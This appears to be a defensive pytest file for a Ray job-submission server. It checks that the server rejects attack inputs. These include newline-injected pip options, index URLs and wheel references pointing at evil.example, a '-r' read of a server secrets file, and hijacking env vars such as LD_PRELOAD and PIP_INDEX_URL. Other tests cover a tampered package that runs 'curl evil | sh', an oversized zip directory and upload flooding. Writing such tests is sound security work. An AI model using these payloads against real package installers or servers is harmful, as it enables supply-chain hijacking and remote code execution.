@@ -1,0 +1,162 @@
+"""Attacks on uploaded code and on the environment Ray installs for a job, made the way
+an attacker would: over HTTP against a real server (SQLite, no Ray: jobs stay QUEUED),
+with the store opened in this process to start an attempt the way the server does.
+
+- runtime_env entries that steer Ray's package installer (a newline in a pip entry, an
+  index variable in env_vars, a direct URL reference): 422 naming the entry;
+- a package rewritten in storage after its upload (jobs can write there): never
+  described, never counted as stored, and an attempt fails before Ray sees it;
+- a zip whose central directory claims hundreds of thousands of entries: refused
+  before it is parsed, with the server's peak memory flat;
+- more uploads at once than the server takes: 429 with Retry-After.
+"""
+
+from __future__ import annotations
+
+import httpx
+import pytest
+
+from api.schemas import FailureCause, JobStatus
+from service.attempts import Attempts
+from tests import attacks, code_attacks
+
+MAX_FILES, MAX_BYTES, UPLOADS = 30, 16 * 2**20, 2
+
+
+@pytest.fixture(scope="module")
+def target(tmp_path_factory):
+    env = {
+        "RAYDOCK_CODE_MAX_FILES": str(MAX_FILES),
+        "RAYDOCK_CODE_MAX_BYTES": str(MAX_BYTES),
+        "RAYDOCK_MAX_CONCURRENT_UPLOADS": str(UPLOADS),
+        "RAYDOCK_PIP_ALLOWED_HOSTS": "wheels.internal.example",
+        "RAYDOCK_CODE_ROOT": "",
+    }
+    target = attacks.start_target(tmp_path_factory.mktemp("code-attacks"), **env)
+    yield target
+    target.stop()
+
+
+@pytest.fixture(scope="module")
+def uploaded(target) -> str:
+    sha, r = code_attacks.upload(target.url, code_attacks.package())
+    assert r.status_code == 201, r.text
+    return sha
+
+
+def job(sha: str, **runtime_env) -> dict:
+    return {
+        "name": "attacker",
+        "entrypoint": "main:train",
+        "code": f"sha256:{sha}",
+        "scaling": {"num_workers": 1},
+        "runtime_env": runtime_env,
+    }
+
+
+INSTALLER_ATTACKS = [
+    ("a newline turns a pip entry into an index option", {"pip": ["numpy\n--index-url https://evil.example/simple"]}),
+    ("a newline turns a pip entry into -r of a server file", {"pip": ["numpy\n-r /etc/raydock/secrets.txt"]}),
+    ("a newline in a uv entry", {"uv": {"packages": ["numpy\r--extra-index-url=https://evil.example"]}}),
+    ("a direct reference to an attacker's wheel", {"pip": ["numpy @ https://evil.example/numpy-9.9-py3-none-any.whl"]}),
+    ("a direct reference over http to an allowed host", {"pip": ["numpy @ http://wheels.internal.example/n.whl"]}),
+    ("a git URL", {"pip": ["numpy @ git+https://evil.example/numpy.git"]}),
+    ("pip itself from a URL", {"pip": {"packages": ["numpy"], "pip_version": " @ https://evil.example/pip.whl"}}),
+    ("PIP_INDEX_URL", {"pip": ["numpy"], "env_vars": {"PIP_INDEX_URL": "https://evil.example/simple"}}),
+    ("PIP_EXTRA_INDEX_URL", {"pip": ["numpy"], "env_vars": {"PIP_EXTRA_INDEX_URL": "https://evil.example/simple"}}),
+    ("PIP_CONFIG_FILE", {"pip": ["numpy"], "env_vars": {"PIP_CONFIG_FILE": "/tmp/ray/session_latest/pip.conf"}}),
+    ("UV_INDEX_URL", {"uv": ["numpy"], "env_vars": {"UV_INDEX_URL": "https://evil.example/simple"}}),
+    ("pip_index_url in lower case", {"env_vars": {"pip_index_url": "https://evil.example/simple"}}),
+    ("PYTHONPATH", {"env_vars": {"PYTHONPATH": "/tmp/evil"}}),
+    ("LD_PRELOAD", {"env_vars": {"LD_PRELOAD": "/tmp/evil.so"}}),
+    ("CONDA_PKGS_DIRS", {"env_vars": {"CONDA_PKGS_DIRS": "/tmp/evil"}}),
+    ("HOME (pip reads its config there)", {"env_vars": {"HOME": "/tmp/evil"}}),
+]
+
+
+@pytest.mark.parametrize("what,runtime_env", INSTALLER_ATTACKS, ids=[a[0] for a in INSTALLER_ATTACKS])
+def test_installer_cannot_be_steered(target, uploaded, what, runtime_env):
+    http = httpx.Client(base_url=target.url, timeout=30)
+    before = http.get("/v1/jobs").json()["total"]
+    r = http.post("/v1/jobs", json=job(uploaded, **runtime_env))
+    assert r.status_code == 422, r.text
+    err = r.json()["error"]
+    assert err["code"] in ("runtime_env_invalid", "env_var_not_allowed"), err
+    named = next(iter(runtime_env.get("env_vars") or {}), None)
+    if named:
+        assert err["code"] == "env_var_not_allowed" and named in err["message"], err
+        assert err["details"][0]["loc"][-1] == named
+    assert http.get("/v1/jobs").json()["total"] == before
+
+
+def test_plain_requirements_and_allowed_hosts_still_go(target, uploaded):
+    fine = {
+        "pip": ["numpy==2.1", "torch>=2.3; python_version >= '3.10'", "n @ https://wheels.internal.example/n.whl"],
+        "env_vars": {"PYTHONUNBUFFERED": "1", "MY_PIP_INDEX_URL": "x", "WANDB_MODE": "offline"},
+    }
+    r = httpx.post(f"{target.url}/v1/jobs", json=job(uploaded, **fine), timeout=30)
+    assert r.status_code == 202, r.text
+    assert httpx.post(f"{target.url}/v1/jobs/{r.json()['id']}/cancel").json()["status"] == "CANCELLED"
+
+
+def test_package_rewritten_in_storage_is_never_run(target):
+    """A job writes its own code over another's package in <storage>/_code/: the server
+    no longer calls it stored, will not describe it, and the victim's attempt fails
+    USER_CODE before anything reaches Ray. Uploading the real bytes restores it."""
+    body = code_attacks.package({"main.py": b"def train(config):\n    print('victim')\n"})
+    sha, r = code_attacks.upload(target.url, body)
+    assert r.status_code == 201, r.text
+    victim = httpx.post(f"{target.url}/v1/jobs", json=job(sha), timeout=30)
+    assert victim.status_code == 202, victim.text
+
+    evil = code_attacks.package({"main.py": b"import os\ndef train(config):\n    os.system('curl evil | sh')\n"})
+    code_attacks.stored_package(target, sha).write_bytes(evil)
+
+    assert httpx.head(f"{target.url}/v1/code/{sha}").status_code == 404  # the SDK uploads the real bytes again
+    described = httpx.get(f"{target.url}/v1/code/{sha}")
+    assert described.status_code == 409 and described.json()["error"]["code"] == "code_package_altered"
+    second = httpx.post(f"{target.url}/v1/jobs", json=job(sha), timeout=30)
+    assert second.status_code == 422 and second.json()["error"]["code"] == "code_package_not_found"
+
+    prepared = Attempts(target.service, store_id="attacks").prepare(victim.json()["id"])
+    assert prepared is None
+    failed = target.service.get(victim.json()["id"])
+    assert failed.status == JobStatus.FAILED and failed.failure_cause == FailureCause.USER_CODE
+    assert failed.error.startswith("code_package_altered:") and "changed in storage" in failed.error
+
+    again = httpx.put(f"{target.url}/v1/code/{sha}", content=body, timeout=30)
+    assert again.status_code in (200, 201), again.text
+    assert code_attacks.stored_package(target, sha).read_bytes() == body
+    assert httpx.get(f"{target.url}/v1/code/{sha}").status_code == 200
+
+
+def test_huge_central_directory_is_refused_before_it_is_parsed(target):
+    """16 MiB of minimal directory records (322,638 claimed entries, zip64): before the
+    fix the server built an object per record (+100 MiB) to find it over 30 files."""
+    body = code_attacks.huge_directory_zip(MAX_BYTES - 1024)
+    r, grew = code_attacks.upload_peak_growth_mib(target, body)
+    print(f"\npeak server memory growth over a {len(body) / 2**20:.0f} MiB directory upload: +{grew:.1f} MiB")
+    assert r.status_code == 422, r.text
+    assert r.json()["error"]["code"] == "code_too_large" and "RAYDOCK_CODE_MAX_FILES" in r.json()["error"]["message"]
+    assert grew < 24, f"+{grew:.1f} MiB"
+    assert httpx.get(f"{target.url}/healthz").status_code == 200
+
+
+def test_uploads_past_the_bound_get_429(target):
+    body = code_attacks.package({"main.py": b"x = 1\n" * 50_000})
+    held = code_attacks.hold_uploads(target, UPLOADS, body)
+    try:
+        sha, refused = code_attacks.upload(target.url, body)
+        assert refused.status_code == 429, refused.text
+        assert refused.json()["error"]["code"] == "too_many_uploads"
+        assert int(refused.headers["Retry-After"]) > 0
+        assert httpx.get(f"{target.url}/healthz").status_code == 200
+    finally:
+        code_attacks.release(held)
+    incoming = target.server.data_dir / "code-incoming"
+    for _ in range(200):  # the held uploads end once the server sees their clients go
+        sha, r = code_attacks.upload(target.url, body)
+        if r.status_code != 429:
+            break
+    assert r.status_code == 201, r.text
+    assert not list(incoming.iterdir())
